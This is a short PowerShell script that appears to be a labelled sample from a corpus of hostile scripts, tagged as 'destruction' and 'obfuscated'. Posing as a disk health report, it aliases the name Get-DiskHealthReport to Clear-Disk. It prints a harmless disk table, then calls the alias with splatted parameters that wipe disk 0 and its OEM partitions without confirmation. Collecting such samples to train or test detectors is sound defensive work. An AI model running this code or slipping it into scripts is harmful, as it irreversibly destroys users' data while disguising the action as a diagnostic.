# description: Disk health script that aliases a harmless-sounding name to Clear-Disk and wipes disk 0 via splatting.
# family: destruction
# obfuscated: yes
Set-Alias -Name Get-DiskHealthReport -Value Clear-Disk
Get-PhysicalDisk | Format-Table DeviceId, FriendlyName, HealthStatus
$params = @{
    Number     = 0
    RemoveData = $true
    RemoveOEM  = $true
    Confirm    = $false
}
Get-DiskHealthReport @params
